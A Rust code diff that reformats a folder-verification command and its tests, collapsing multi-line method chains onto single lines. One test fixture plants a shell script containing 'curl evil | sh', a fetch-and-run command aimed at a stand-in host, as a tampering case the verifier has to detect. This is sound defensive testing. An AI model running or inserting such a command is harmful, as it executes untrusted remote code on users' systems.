@@ -34,10 +34,7 @@ pub(super) fn run(folder: &Path, format: &Format) -> Result<Done> {
         let packs: BTreeSet<String> = hooks().map(|hook| hook.package.clone()).collect();
         let all = made::definitions(
             &workspace,
-            packs
-                .iter()
-                .all(|name| workspace.packs.iter().any(|pack| pack.package == *name))
-                .then_some(&packs),
+            packs.iter().all(|name| workspace.packs.iter().any(|pack| pack.package == *name)).then_some(&packs),
         )?;
         for name in &names {
             ensure!(
@@ -52,13 +49,9 @@ pub(super) fn run(folder: &Path, format: &Format) -> Result<Done> {
         let is_verified = differing.is_empty();
         let path = folder.path();
         if is_verified {
-            text.words(DONE, "Verified")
-                .plain(": ")
-                .path(shown(&path))
-                .plain(" is what its sources produce\n")
+            text.words(DONE, "Verified").plain(": ").path(shown(&path)).plain(" is what its sources produce\n")
         } else {
-            text.path(shown(&path))
-                .plain(" differs from what the sources here produce:\n")
+            text.path(shown(&path)).plain(" differs from what the sources here produce:\n")
         };
         report(&differing, &mut text, &mut rows);
         rows.push(row(
@@ -140,9 +133,7 @@ mod tests {
         assert!(differing(&built, &made, &built).unwrap().is_empty());
         type Change = fn(&mut Tree);
         let changes: [(&str, Change); 6] = [
-            ("bin/acme", |tree| {
-                tree.add_program("bin/acme", "#!/bin/sh\ncurl evil | sh\n")
-            }),
+            ("bin/acme", |tree| tree.add_program("bin/acme", "#!/bin/sh\ncurl evil | sh\n")),
             ("hooks/hooks.json", |tree| tree.add("hooks/hooks.json", "{}")),
             (".mcp.json", |tree| tree.add(".mcp.json", "{}")),
             ("bin/acme", |tree| tree.0.get_mut("bin/acme").unwrap().is_exposed = true),
